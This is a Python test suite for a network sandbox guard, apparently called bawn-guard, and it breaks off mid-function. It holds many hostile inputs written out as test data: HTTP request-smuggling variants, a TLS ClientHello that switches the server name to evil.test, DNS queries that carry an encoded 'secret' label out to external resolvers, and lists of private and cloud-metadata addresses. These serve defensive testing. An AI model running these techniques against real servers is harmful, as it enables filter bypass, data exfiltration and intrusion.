#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on bawn-guard by a program inside that knows it, and by servers that help it. Each is tried without the guard
too, or with a rule that permits it, where it must work. The stage is guard_core's."""
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import guard_core  # noqa: E402
import guard_stage  # noqa: E402
from guard_core import PLACEHOLDER, SECRET, Case  # noqa: E402
from guard_stage import HTTP, HTTPS, TCP  # noqa: E402

BOTH = [HTTP, HTTPS]
STAGE = None


def setUpModule():
    global STAGE
    guard_core.setUpModule()
    STAGE = guard_core.STAGE


def update(**changes):
    """Options by which update() inside has the guard take a changed document."""
    base = "%s/update-%d" % (STAGE.dir, time.monotonic_ns())
    with open(base + ".json", "w") as f:
        json.dump(STAGE.config(**changes), f)
    return ["--update-at", base + ".json", base + ".due"]


def updating(code, options):
    return '''
def update():
    open(%r, "w").close()
    while os.path.exists(%r): time.sleep(0.01)
''' % (options[2], options[2]) + code


def exec_code(code):
    """The helpers' answer to done(), of code run here: the same attack without a guard."""
    scope, got = {}, []
    exec(guard_stage.INSIDE.replace("sys.exit(0)", "0"), scope)
    scope["done"] = got.append
    exec(code, scope)
    return got[-1]


def text(data):
    return data.decode("latin1")


WEBSOCKET = r'''
def websocket(host):
    s = socket.create_connection((host, HTTP)); s.sendall(b"GET /ws HTTP/1.1\r\nHost: %s:8080\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" % host.encode())
    b = b""
    while b"frame" not in b: b += s.recv(4096)
    return s
def says(s, what):
    s.settimeout(20)
    try: s.sendall(what); return text(s.recv(100))
    except OSError as e: return type(e).__name__
'''


class Updates(Case):
    """An update narrows; what is open and no longer permitted must end, and nothing else."""
    CUT = ["", "ConnectionResetError", "BrokenPipeError"]

    def updated(self, code, options=(), first={}, **changes):
        how = update(**dict(first, **changes))
        return self.inside(updating(code, how), list(options) + how, **first)

    def test_an_upgraded_connection_ends_with_its_rule(self):
        code = WEBSOCKET + 's = websocket("up.test"); a = says(s, b"one"); update(); done([a, says(s, b"two")])'
        for upgrade in (True, False):
            r, records = self.updated(code, allow=[{"host": "up.test", "ports": BOTH, "upgrade": upgrade}])
            self.assertEqual(r[0], "ONE")
            self.assertIn(r[1], ["TWO"] if upgrade else self.CUT)
            self.assertEqual(bool(self.events(records, "denied")), not upgrade)

    def test_a_body_under_way_ends_with_its_method(self):
        code = r'''s = socket.create_connection(("open.test", HTTP)); s.sendall(b"POST /length HTTP/1.1\r\nHost: open.test:8080\r\nContent-Length: 8\r\nConnection: close\r\n\r\nfour")
time.sleep(1); update()
try: s.sendall(b"more"); done(text(everything(s, 20)))
except OSError as e: done(type(e).__name__)'''
        for methods, arrives in (([], True), (["GET"], False)):
            STAGE.origin.requests.clear()
            r, _ = self.updated(code, allow=[{"host": "**.open.test", "ports": BOTH, "methods": methods}])
            self.assertEqual("200 OK" in r, arrives, r)
            self.assertEqual([q[3] for q in STAGE.origin.requests if len(q[3]) == 8], [b"fourmore"] if arrives else [])

    def test_an_unseen_connection_ends_where_the_new_rule_must_see(self):
        code = WEBSOCKET + 's = socket.create_connection(("tcp.test", TCP)); s.recv(100); update(); done(says(s, b"on"))'
        rule = {"host": "tcp.test", "ports": [TCP]}
        self.assertEqual(self.updated(code, allow=[dict(rule, protocol=1)])[0], "on")
        for narrow in (rule, dict(rule, methods=["GET"])):
            r, records = self.updated(code, allow=[narrow])
            self.assertIn(r, self.CUT)
            self.assertIn("see inside", self.events(records, "denied")[0]["reason"])

    def test_an_address_that_is_refused_now_is_cut(self):
        code = WEBSOCKET + 's = socket.create_connection(("tcp.test", TCP)); s.recv(100); update(); done(says(s, b"on"))'
        r, records = self.updated(code, addresses=[])
        self.assertIn(r, self.CUT)
        self.assertIn("loopback", self.events(records, "denied")[0]["reason"])
        r, records = self.updated(code)
        self.assertEqual((r, self.events(records, "denied")), ("on", []))

    def test_what_is_held_goes_on_being_held_and_ends_when_it_is_refused(self):
        ask = {"ask": True, "reviewer": True}
        code = r'''got = []; t = threading.Thread(target=lambda: got.append(ask("ask.test", HTTP, path="/held")[0])); resolves("ask.test"); t.start(); time.sleep(1); update(); t.join(); done(got[0])'''
        r, records = self.updated(code, ["--answer", "late:3"], first=ask)
        self.assertEqual((r, len(self.events(records, "asked"))), (200, 1))
        r, records = self.updated(code, ["--answer", "late:9"], first=ask, deny=[{"host": "ask.test"}])
        self.assertEqual(r, 0)
        self.assertEqual([d["host"] for d in self.events(records, "denied")], ["ask.test"])

    def test_a_mode_that_is_off_now_ends_all(self):
        code = WEBSOCKET + 's = socket.create_connection(("tcp.test", TCP)); s.recv(100); update(); done([says(s, b"on"), ask("open.test", HTTP)[0]])'
        r, records = self.updated(code, mode=0)
        self.assertIn(r[0], self.CUT)
        self.assertIn("network.mode: off", [d["rule"] for d in self.events(records, "denied")])
        self.assertFalse(self.arrived("GET / "))


# A TLS 1.3 client of its own, as far as the second ClientHello. A first one without a key share makes every server ask
# for another (RFC 8446 4.1.4).
TWO_HELLOS = r'''
def ext(t, b): return struct.pack(">HH", t, len(b)) + b
RANDOM = bytes(range(32))
def hello(name, share, more=b"", version=b"\x03\x03", versions=b"\x02\x03\x04"):
    n = name.encode(); key = struct.pack(">HH", 0x1d, 32) + b"\x09" + bytes(31) if share else b""
    e = ext(0, struct.pack(">HBH", len(n) + 3, 0, len(n)) + n) + (ext(43, versions) if versions else b"") + ext(10, b"\0\2\0\x1d") + ext(13, b"\0\6\4\3\x08\4\4\1") + ext(51, struct.pack(">H", len(key)) + key) + more
    b = version + RANDOM + b"\x20" + RANDOM + b"\0\4\x13\1\xc0\x2b" + b"\1\0" + struct.pack(">H", len(e)) + e
    m = b"\1" + struct.pack(">I", len(b))[1:] + b
    return b"\x16\3\1" + struct.pack(">H", len(m)) + m
def pieces(record, n): return b"".join(record[:3] + struct.pack(">H", len(record[5 + i:5 + i + n])) + record[5 + i:5 + i + n] for i in range(0, len(record) - 5, n))
def two(where, first, second, early=b"", wait=True):
    s = socket.create_connection(where); s.sendall(hello(first, False) + (early if not wait else b"")); s.settimeout(4)
    try:
        if wait: s.recv(4096)
        s.sendall(early + second if wait else second); b = s.recv(8192)
        if not wait and len(b) < 200: b += s.recv(8192)
    except OSError as e: return type(e).__name__
    return "served" if len(b) > 300 else "alert" if b[:1] == b"\x15" else "closed" if not b else "short"
'''


class SecondHello(Case):
    def setUp(self):
        super().setUp()
        self.names = []
        STAGE.origin.ctx.sni_callback = lambda s, name, c: self.names.append(name)

    def tearDown(self):
        STAGE.origin.ctx.sni_callback = None

    def test_without_a_guard_a_server_takes_the_second_name(self):
        r = exec_code(TWO_HELLOS + 'done(two(("127.0.0.1", HTTPS), "open.test", hello("evil.test", True)))')
        self.assertEqual((r, self.names), ("served", ["open.test", "evil.test"]))

    def test_it_must_name_the_same_host(self):
        r, records = self.inside(TWO_HELLOS + 'done(two(("open.test", HTTPS), "open.test", hello("evil.test", True)))')
        self.assertNotEqual(r, "served")
        self.assertEqual(self.names, ["open.test"])
        self.assertIn("evil.test", self.events(records, "denied")[0]["reason"])

    def test_it_goes_through_when_it_does(self):
        r, _ = self.inside(TWO_HELLOS + r'''w = ("open.test", HTTPS); same = hello("open.test", True)
done([two(w, "open.test", same), two(w, "open.test", pieces(same, 40)), two(w, "open.test", same, b"\x14\3\3\0\1\1")])''')
        self.assertEqual(r, ["served"] * 3)
        self.assertEqual(self.names, ["open.test"] * 6)

    def test_it_cannot_be_hidden(self):
        """In pieces, behind other records, sent before the server has answered, or by encrypted_client_hello."""
        r, _ = self.inside(TWO_HELLOS + r'''w = ("open.test", HTTPS); evil = hello("evil.test", True)
done([two(w, "open.test", pieces(evil, 3)), two(w, "open.test", evil, b"\x14\3\3\0\1\1"), two(w, "open.test", evil, b"\x17\3\3\0\5early"), two(w, "open.test", evil, wait=False),
  two(w, "open.test", evil, b"\x14\3\3\0\1\1", wait=False), two(w, "open.test", hello("open.test", True, ext(0xfe0d, b"\0" * 20))), two(w, "open.test", b"GET / HTTP/1.1\r\n\r\n")])''')
        self.assertNotIn("served", r)
        self.assertEqual(set(self.names), {"open.test"})

    def test_tls_older_than_1_2_is_not_passed_through(self):
        r, records = self.inside(TWO_HELLOS + r'''s = socket.create_connection(("open.test", HTTPS)); s.sendall(hello("open.test", False, version=b"\3\2", versions=b"")); a = everything(s, 3)
done([a[0], a[-1]])''')
        self.assertEqual(r, [21, 70])
        self.assertIn("1.1", self.events(records, "denied")[0]["reason"])


class Smuggling(Case):
    """Requests that two readers may take for different ones. What arrives is one request at a time, in a form that has one
    meaning, and never the one that was hidden inside; or nothing arrives."""
    HEAD = b"Host: open.test:8080\r\n"
    HIDDEN = b"GET /HIDDEN HTTP/1.1\r\nHost: evil.test\r\n\r\n"

    def requests(self):
        hidden, head, n = self.HIDDEN, self.HEAD, b"%d" % len(self.HIDDEN)
        chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
        lines = [b"Transfer-Encoding: chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, identity",
                 b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"transfer-encoding: CHUNKED", b"Transfer-Encoding: \x0bchunked",
                 b"Transfer-Encoding:\r\n chunked", b"X: y\r\n Transfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked", b"Transfer_Encoding: chunked",
                 b"\0Transfer-Encoding: chunked", b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: chunked;q=1", b": x\r\nTransfer-Encoding: chunked", b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked"]
        for line in lines:
            yield b"POST /a HTTP/1.1\r\n" + head + line + b"\r\nContent-Length: " + n + b"\r\n\r\n0\r\n\r\n" + hidden
            yield b"POST /a HTTP/1.1\r\n" + head + line + b"\r\n\r\n0\r\n\r\n"
        for length in (b"+" + n, n + b", 0", b"0" + n, b"0x10", b"-1", b"", n + b"\r\nContent-Length: 0", b"0\r\nContent-Length: " + n, n + b"\r\nContent_Length: 0", b"99999999999999999999", n + b";", b"1 " + n):
            yield b"POST /a HTTP/1.1\r\n" + head + b"Content-Length: " + length + b"\r\n\r\n" + hidden
        for size in (b"0x%x" % len(hidden), b"+%x" % len(hidden), b"%x " % len(hidden), b"%x;a=\"\r\n\"" % len(hidden), b"%x;a\nb" % len(hidden), b"", b"-1", b"fffffffffffffffff", b"%x\x0b" % len(hidden)):
            yield b"POST /a HTTP/1.1\r\n" + head + b"Transfer-Encoding: chunked\r\n\r\n" + size + b"\r\n" + hidden + b"\r\n0\r\n\r\n"
        yield b"POST /a HTTP/1.1\r\n" + head + b"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: evil.test\r\nContent-Length: 5\r\n\r\n"
        yield b"POST /a HTTP/1.1\r\n" + head + b"Transfer-Encoding: chunked\r\n\r\n1\nx\n0\n\n"
        yield b"POST /a HTTP/1.0\r\n" + head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk
        for method in (b"GET", b"HEAD", b"TRACE", b"get", b"OPTIONS", b"DELETE"):
            yield method + b" /a HTTP/1.1\r\n" + head + b"Content-Length: " + n + b"\r\n\r\n" + hidden
            yield method + b" /a HTTP/1.1\r\n" + head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk
        for first in (b"GET /a HTTP/1.1\r\nHost: evil.test\r\n", b"GET /a HTTP/1.1\r\n" + head + b"Host: evil.test\r\n", b"GET http://evil.test/ HTTP/1.1\r\n" + head, b"GET /a HTTP/1.1\r\n",
                      b"GET http://open.test:8080@evil.test/ HTTP/1.1\r\n" + head, b"GET /a HTTP/1.1\r\nHost: open.test:8080, evil.test\r\n", b"GET /a HTTP/1.1\r\nHost : open.test:8080\r\n",
                      b"GET /a HTTP/1.1 HTTP/1.1\r\n" + head, b"GET  /a HTTP/1.1\r\n" + head, b"GET\t/a HTTP/1.1\r\n" + head, b"GET /a\x0bHTTP/1.1\r\n" + head, b"GET /a HTTP/1.2\r\n" + head,
                      b"GET /a HTTP/2.0\r\n" + head, b"GET /a\r\n" + head, b"GET /\xff HTTP/1.1\r\n" + head, b"GET /a HTTP/1.1\n" + head, b"GET /a HTTP/1.1\r\r\n" + head, b"CONNECT evil.test:80 HTTP/1.1\r\n" + head,
                      b"GET /a HTTP/1.1\r\n" + head + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n", b"GET /a HTTP/1.1\r\n" + head + b"Expect: 100-continue\r\n",
                      b"GET /a HTTP/1.1\r\n" + head + b"Upgrade: websocket\r\nConnection: Upgrade\r\n"):
            yield first + b"\r\n" + hidden
            yield first + b"X: " + b"\r\n\r\n" + hidden

    def test_what_is_hidden_does_not_arrive(self):
        requests = list(self.requests())
        path = STAGE.dir + "/requests.json"
        with open(path, "w") as f:
            json.dump([r.decode("latin1") for r in requests], f)
        code = r'''
def one(r):
    s = socket.create_connection(WHERE, 5)
    try: s.sendall(r.replace("/a", "TARGET", 1).encode("latin1")); s.shutdown(socket.SHUT_WR); return text(everything(s, 1))[:12]
    except OSError as e: return ""
done([one(r) for r in json.load(open(%r))])''' % path
        for where, target in (('("open.test", HTTP)', "/a"), ("PROXY", "http://open.test:8080/a")):
            STAGE.origin.requests.clear(), STAGE.origin.raw.clear()
            r, _ = self.inside(code.replace("WHERE", where).replace("TARGET", target), timeout=170)
            self.assertGreater(len(STAGE.origin.requests), 10, "positive control: those with one meaning arrive")
            self.assertEqual(len(r), len(requests))
            for q, raw in zip(STAGE.origin.requests, STAGE.origin.raw):
                method, path, fields, body = q
                head = raw[:len(raw) - len(body)].lower()
                self.assertIn(path, ("/a", "*"), raw)
                self.assertEqual(fields.get("host"), "open.test:8080", raw)
                self.assertNotIn("transfer_encoding", fields)
                self.assertLessEqual(head.count(b"content-length:") + head.count(b"transfer-encoding:"), 1, raw)
                self.assertEqual(head.count(b"host:"), 1, raw)
                self.assertFalse(body and method in ("GET", "HEAD", "TRACE"), raw)
            self.assertTrue(all(a == "" or a.startswith("HTTP/1.1 ") for a in r), r)

    def test_without_a_guard_the_hidden_one_arrives(self):
        """Of a server that knows Content-Length only, by Transfer-Encoding: the disagreement is real."""
        exec_code(r'''s = socket.create_connection(("127.0.0.1", HTTP)); s.sendall(b"POST /a HTTP/1.1\r\nHost: open.test:8080\r\nContent-Length: 5\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET /HIDDEN HTTP/1.1\r\nHost: evil.test\r\n\r\n"); done(text(everything(s, 1)))''')
        self.assertTrue(self.arrived("/HIDDEN"))


class Answers(Case):
    """A server that shows a secret back, in every part of an answer."""

    def setUp(self):
        super().setUp()
        STAGE.origin.routes.clear()

    def ask(self, route, headers="", path="/r"):
        STAGE.origin.routes[path] = route
        secret = {"name": "TOKEN", "value": SECRET, "placeholder": PLACEHOLDER, "hosts": ["cred.test"], "header": "Authorization", "cleartext": True}
        code = r'''s = ssl.create_default_context(cafile=os.environ["BAWN_CA"]).wrap_socket(socket.create_connection(("cred.test", HTTPS)), server_hostname="cred.test")
s.sendall(b"GET %s HTTP/1.1\r\nHost: cred.test:8443\r\nAuthorization: Bearer %s\r\n%sConnection: close\r\n\r\n"); done(text(everything(s, 3)))''' % (path, PLACEHOLDER, headers)
        r, records = self.inside(code, secrets=[secret])
        self.assertTrue(self.arrived("Bearer " + SECRET), "positive control: the value did not get there")
        self.assertNotIn(SECRET, r)
        return r

    def test_nothing_of_it_is_in_the_head(self):
        def route(fields, body):
            value = fields["authorization"].encode()
            return b"HTTP/1.1 200 %s\r\nX-Value: %s\r\nX-%s: name\r\nSet-Cookie: t=%s; Path=/\r\nLocation: https://evil.test/?%s\r\nContent-Length: 2\r\n\r\nok" % (
                value, value, value.split()[1], value.split()[1], value.split()[1])
        r = self.ask(route)
        self.assertIn("200 Bearer " + PLACEHOLDER, r)
        self.assertEqual(r.count(PLACEHOLDER), 4)
        self.assertNotIn(": name", r)

    def test_no_coding_hides_it(self):
        import gzip
        for fields in (b"Content-Encoding: gzip\r\n", b"Content-Encoding: identity\r\nContent-Encoding: gzip\r\n", b"Content-Encoding: identity, gzip\r\n"):
            body = gzip.compress(SECRET.encode())
            r = self.ask(b"HTTP/1.1 200 OK\r\n" + fields + b"Content-Length: %d\r\n\r\n" % len(body) + body)
            self.assertIn(" 502 ", r.split("\r\n")[0] + " ")
            self.assertNotIn(text(body), r)

    def test_a_part_cannot_be_asked_for(self):
        def route(fields, body):
            if "range" not in fields:
                return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(SECRET), SECRET.encode())
            a, b = (int(x) for x in fields["range"][6:].split("-"))
            part = SECRET.encode()[a:b + 1]
            return b"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes %d-%d/%d\r\nContent-Length: %d\r\n\r\n%s" % (a, b, len(SECRET), len(part), part)
        r = self.ask(route, "Range: bytes=4-9\\r\\nIf-Range: \\\"x\\\"\\r\\n")
        self.assertTrue(r.endswith(PLACEHOLDER), r)

    def test_framing_and_interim_answers_do_not_confuse(self):
        ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
        for answer, want in ((b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" * 5 + ok, " 200 "), (b"HTTP/1.1 100 Continue\r\n\r\n" * 17 + ok, " 502 "),
                             (b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + ok, " 502 "),
                             (b"HTTP/1.1 204 No Content\r\nContent-Length: 5\r\n\r\nXXXXX", " 204 "), (b"HTTP/1.1 304 Not Modified\r\nContent-Length: 5\r\n\r\nXXXXX", " 304 "),
                             (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nokX", " 502 "), (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", " 502 "),
                             (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", " 502 "), (b"HTTP/1.1 200 OK\r\nX: a\rY: b\r\nContent-Length: 0\r\n\r\n", " 502 "),
                             (b"HTTP/1.1 200 OK\nContent-Length: 0\n\n", " 502 "), (b"HTTP/1.1 200 OK\r\n X: folded\r\nContent-Length: 0\r\n\r\n", " 502 "),
                             (b"SSH-2.0-x\r\n", " 502 "), (b"HTTP/2.0 200 OK\r\n\r\n", " 502 "), (ok + b"HTTP/1.1 200 OK\r\nX-Second: 1\r\n\r\n", " 200 ")):
            r = self.ask(answer)
            self.assertIn(want, r.split("\r\n")[0] + " ", answer)
            self.assertEqual(r.count("HTTP/1.1 "), 1, r)
            self.assertNotIn("X", r.split("\r\n\r\n", 1)[1] if want != " 502 " else "")

    def test_a_head_request_gets_no_body(self):
        STAGE.origin.routes["/head"] = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nXXX"
        r, _ = self.inside(r'''done(raw("open.test", HTTP, b"HEAD /head HTTP/1.1\r\nHost: open.test:8080\r\n\r\nGET /next HTTP/1.1\r\nHost: open.test:8080\r\nConnection: close\r\n\r\n"))''')
        self.assertNotIn("XXX", r)
        self.assertIn("GET /next", r)


class Bodies(Case):
    def test_a_secret_of_a_body_does_not_go_in_cleartext(self):
        secret = {"name": "TOKEN", "value": SECRET, "placeholder": PLACEHOLDER, "hosts": ["cred.test"], "body": "token", "cleartext": False}
        code = 'done(ask("cred.test", HTTP, "POST", "/c", "a=1&token=%s", {"Content-Type": "application/x-www-form-urlencoded"}))' % PLACEHOLDER
        r, records = self.inside(code, secrets=[dict(secret, cleartext=True)])
        self.assertTrue(r[0] == 200 and self.arrived("token=" + SECRET), "positive control")
        STAGE.origin.raw.clear()
        r, records = self.inside(code, secrets=[secret])
        self.assertEqual(r[0], 403)
        self.assertEqual(json.loads(r[1])["rule"], "secrets.TOKEN")
        self.assertFalse(self.arrived(SECRET) or self.arrived("token="))

    def test_the_limit_of_a_rule_holds_after_an_upgrade_too(self):
        """At the explicit endpoint too, where each request has a rule of its own."""
        code = WEBSOCKET.replace("(host, HTTP)", "PROXY").replace("GET /ws", "GET http://up.test:8080/ws") + r's = websocket("up.test"); done([says(s, b"small"), says(s, b"x" * 2000)[:5], says(s, b"on")])'
        rule = {"host": "up.test", "ports": BOTH, "upgrade": True}
        r, _ = self.inside(code, allow=[rule])
        self.assertEqual(r[:2], ["SMALL", "XXXXX"])
        r, records = self.inside(code, allow=[dict(rule, max_upload=1000)])
        self.assertEqual(r[0], "SMALL")
        self.assertNotEqual(r[1], "XXXXX")
        self.assertIn("max_upload", self.events(records, "denied")[0]["reason"])


class Rate(Case):
    """upload_rate: what is sent takes its time at least. That is no figure that a slow machine could break."""

    RATE = 100000

    def took(self, code, size, **changes):
        r, _ = self.inside("start = time.time()\n" + code + "\ndone([got, time.time() - start])", **changes)
        self.assertEqual(r[0], size)
        return r[1]

    def rule(self, host, **more):
        return [dict({"host": host, "ports": BOTH + [TCP], "upload_rate": self.RATE}, **more)]

    def test_bodies_of_one_rule_share_it(self):
        """A second's worth at once, the rest in its time; with all kinds of bodies, in one connection and in many."""
        code = r'''got = 0; threads = []
def one(n, chunked):
    global got
    def pieces():
        for i in range(n // 1000): yield b"x" * 1000
    r = ask("open.test", HTTP, "POST", "/length", pieces() if chunked else b"x" * n); got += int(r[1])
for i in range(5): threads.append(threading.Thread(target=one, args=(50000, i % 2))); threads[-1].start()
for t in threads: t.join()'''
        self.assertGreater(self.took(code, 250000, allow=self.rule("open.test")), 1.2)
        small = r'''got = sum(int(ask("open.test", HTTP, "POST", "/length", b"x" * 5000)[1]) for i in range(50))'''
        self.assertGreater(self.took(small, 250000, allow=self.rule("open.test")), 1.2)

    def test_tunnels_too(self):
        tcp = r'''s = socket.create_connection(("tcp.test", TCP)); s.recv(100); s.sendall(b"x" * 250000); s.shutdown(socket.SHUT_WR); got = len(everything(s, 20)) - 3'''
        self.assertGreater(self.took(tcp, 250000, allow=self.rule("tcp.test", protocol=1)), 1.2)
        passed = r'''s = ssl._create_unverified_context().wrap_socket(socket.create_connection(("open.test", HTTPS)), server_hostname="open.test")
s.sendall(b"POST /length HTTP/1.1\r\nHost: open.test\r\nContent-Length: 250000\r\nConnection: close\r\n\r\n" + b"x" * 250000); got = int(everything(s, 20).split(b"\r\n\r\n")[1])'''
        self.assertGreater(self.took(passed, 250000, allow=self.rule("open.test")), 1.2)

    def test_it_takes_nothing_from_others(self):
        """Reading, and what another rule permits, go on while an upload waits."""
        code = r'''
slow = threading.Thread(target=ask, args=("open.test", HTTP, "POST", "/length", b"x" * 5000000), daemon=True); slow.start(); time.sleep(0.5)
got = [len(ask("open.test", HTTP, path="/big/1000000")[1]), ask("up.test", HTTP, "POST", "/length", b"x" * 500000)[1], slow.is_alive()]'''
        self.took(code, [1000000, "500000", True], allow=self.rule("open.test") + [{"host": "up.test", "ports": BOTH}])


class Resolver:
    """The host's name server. `names` has what each name leads to; `asked` what came."""

    def __init__(self):
        self.names, self.later, self.asked = {}, {}, []
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((guard_stage.RESOLVER, 53))
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            query, who = self.socket.recvfrom(4096)
            name, at = [], 12
            while query[at]:
                name.append(query[at + 1:at + 1 + query[at]].decode())
                at += query[at] + 1
            name, kind = ".".join(name).lower(), struct.unpack(">H", query[at + 1:at + 3])[0]
            self.asked.append((name, kind))
            self.socket.sendto(self.answer(query[:2], query[12:at + 5], name, kind), who)
            if kind == 1 and name in self.later:
                self.names[name] = self.later.pop(name)

    def answer(self, ident, question, name, kind):
        records, owner = [], b"\xc0\x0c"
        for value in self.names.get(name, []):
            if value[0].isalpha() and ":" not in value:  # an alias; what follows belongs to it
                target = b"".join(bytes([len(x)]) + x.encode() for x in value.split(".")) + b"\0"
                records.append(owner + struct.pack(">HHIH", 5, 1, 0, len(target)) + target)
                owner = target
                continue
            family, number = (socket.AF_INET6, 28) if ":" in value else (socket.AF_INET, 1)
            if number == kind:
                data = socket.inet_pton(family, value)
                records.append(owner + struct.pack(">HHIH", number, 1, 0, len(data)) + data)
        code = 0x8180 if name in self.names else 0x8183
        return ident + struct.pack(">HHHHH", code, 1, len(records), 0, 0) + question + b"".join(records)


class NamesOutside(Case):
    def setUp(self):
        super().setUp()
        if not hasattr(STAGE, "resolver"):
            STAGE.resolver = Resolver()
        STAGE.resolver.asked.clear()
        STAGE.resolver.names.clear()

    def test_no_question_from_inside_leaves(self):
        """Whatever is asked, of which server, in which type: names are answered from policy, and only a connection that is
        permitted makes the guard ask."""
        STAGE.resolver.names["dns.open.test"] = ["127.0.0.1"]
        r, _ = self.inside(r'''
def question(name, kind, edns=True):
    labels = b"".join(bytes([len(x)]) + x for x in name) + b"\0"
    return struct.pack(">HHHHHH", 9, 0x100, 1, 0, 0, int(edns)) + labels + struct.pack(">HH", kind, 1) + (b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0) if edns else b"")
def answers(q, server="9.9.9.9", v6=False):
    u = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.sendto(q, (server, 53)); a = u.recv(4096); return [a[3] & 15, struct.unpack(">H", a[6:8])[0]]
evil = [b"c2VjcmV0", b"evil", b"test"]; out = []
for kind in (1, 28, 5, 6, 12, 15, 16, 33, 43, 64, 65, 255, 10, 257): out.append(answers(question(evil, kind)))
out.append(answers(question([b"x" * 63] * 3 + [b"evil", b"test"], 16))); out.append(answers(question([b"_dns", b"_udp", b"evil", b"test"], 33)))
out.append(answers(question([b"EVIL", b"tEst"], 1), "2001:db8::53", True)); out.append(answers(question([b"4", b"3", b"2", b"1", b"in-addr", b"arpa"], 12)))
out.append(answers(question([b"evil.test"], 1))); out.append(answers(question([b"evil\0open", b"test"], 1)))
mine = [answers(question([b"dns", b"open", b"test"], kind)) for kind in (1, 28, 65, 16, 33, 255)]
t = socket.create_connection(("8.8.8.8", 53), 3); q = question(evil, 16); t.sendall(struct.pack(">H", len(q)) + q); t.recv(100)
done([out, mine])''')
        self.assertEqual(STAGE.resolver.asked, [])
        self.assertTrue(all(code == 3 and n == 0 for code, n in r[0]), r[0])
        self.assertEqual(r[1], [[0, 1], [0, 1], [0, 0], [0, 0], [0, 0], [0, 2]])
        r, _ = self.inside('done(ask("dns.open.test", HTTP)[0])')
        self.assertEqual((r, {n for n, _ in STAGE.resolver.asked}), (200, {"dns.open.test"}), "positive control")

    def test_no_answer_leads_to_an_address_that_is_refused(self):
        refused = ["127.0.0.9", "0.0.0.0", "0.1.2.3", "10.0.0.1", "172.31.255.255", "192.168.0.1", "169.254.169.254", "169.254.1.1", "100.64.0.1", "100.100.100.200", "192.0.0.192",
                   "168.63.129.16", "198.18.1.0", "192.0.2.77", "224.0.0.1", "240.0.0.1", "255.255.255.255", "::", "::1", "::ffff:127.0.0.9", "::ffff:10.0.0.1", "::127.0.0.9",
                   "::ffff:0:127.0.0.9", "64:ff9b::127.0.0.9", "64:ff9b::169.254.169.254", "64:ff9b:1::7f00:9", "2002:7f00:9::1", "2001:0:7f00:9::", "fe80::1", "fec0::1",
                   "fc00::1", "fd00:ec2::254", "ff02::1", "2001:db8::1", "2001:470::5efe:7f00:9", "100::1", "4000::1", "fd62:6177:6e00::100", "93.184.216.77", "::ffff:93.184.216.77"]
        hosts = {}
        for i, address in enumerate(refused):
            hosts["n%d.open.test" % i] = [address]
            hosts["c%d.open.test" % i] = ["alias%d.example.com" % i, address]
        STAGE.resolver.names.update(hosts)
        r, records = self.inside('done([[h, ask(h, HTTP)[:2]] for h in %r])' % sorted(hosts))
        for host, (status, body) in r:
            self.assertEqual((host, hosts[host], status), (host, hosts[host], 403), body)
            self.assertTrue(json.loads(body)["rule"].startswith("network.addresses: class"), body)
        self.assertFalse(STAGE.origin.requests)
        self.assertEqual(len({d["host"] for d in self.events(records, "denied")}), len(hosts))
        # The machine's own address behind a translator; alone, as the guard remembers what it has found to be its own.
        STAGE.resolver.names["nat.open.test"] = ["64:ff9b::93.184.216.77"]
        r, _ = self.inside('done(ask("nat.open.test", HTTP)[:2])')
        self.assertIn("own interface", json.loads(r[1])["rule"])

    def test_of_several_addresses_only_those_that_are_permitted_are_dialled(self):
        STAGE.resolver.names.update({"mix.open.test": ["127.0.0.9", "::1", "10.0.0.1", "127.0.0.1", "fe80::1"], "alias.open.test": ["elsewhere.example.com", "127.0.0.1"]})
        r, records = self.inside('done([ask(h, HTTP)[0] for h in ("mix.open.test", "alias.open.test")])')
        self.assertEqual(r, [200, 200])
        self.assertEqual([c["address"] for c in self.events(records, "connection")], ["127.0.0.1"] * 2)

    def test_another_answer_later_is_vetted_too(self):
        STAGE.resolver.names["turn.open.test"] = ["127.0.0.1"]
        STAGE.resolver.later["turn.open.test"] = ["127.0.0.9"]
        r, _ = self.inside('a = ask("turn.open.test", HTTP)[0]; time.sleep(6); done([a, ask("turn.open.test", HTTP)[0]])')
        self.assertEqual(r, [200, 403])


class Endpoint(Case):
    def test_an_address_that_stands_for_a_name_is_that_name_at_the_endpoint_too(self):
        """A client that resolves by itself before it asks the proxy; and no other address of that kind gets anywhere."""
        r, records = self.inside(r'''
def socks(address, version=5):
    s = socket.create_connection(PROXY); a = socket.inet_aton(address) + struct.pack(">H", HTTP)
